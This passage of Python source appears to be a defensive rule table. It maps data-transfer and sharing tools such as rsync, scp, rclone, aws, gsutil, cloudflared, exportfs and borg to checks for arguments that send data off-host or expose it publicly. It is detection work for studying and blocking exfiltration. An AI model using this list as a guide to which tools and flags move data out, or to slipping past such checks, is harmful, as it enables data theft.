    "mbuffer": mentions("-O"),
    "lftp": mentions("put", "mirror", "!", "|", "source", "on-change", "\\", fold=True),
    "gcloud": mentions("storage"),
    "net": mentions("usershare"),
    "rsync": lambda text: _DOTTED_REMOTE.search(text) is not None,
    "scp": lambda text: _DOTTED_REMOTE.search(text) is not None,
    "rclone": lambda text: re.search(r"(?:^|[\s\"'=]):[a-z]|config create", text) is not None,
    "mc": mentions("anonymous", "policy", "alias set", "config host", "MC_HOST_"),
    "az": mentions("--public-access"),
    "aws": lambda text: "put-bucket-replication" in text or "s3://" in text and " cp " in text,
    "zfs": mentions("share"),
    "exportfs": mentions("*", "0.0.0.0", "::/0"),
    "restic": mentions("key", ">"),
    "borg": mentions("key export", "--stdout", "export-tar"),
    "gsutil": mentions("gs://"),
    "cloudflared": mentions("--url"),
}
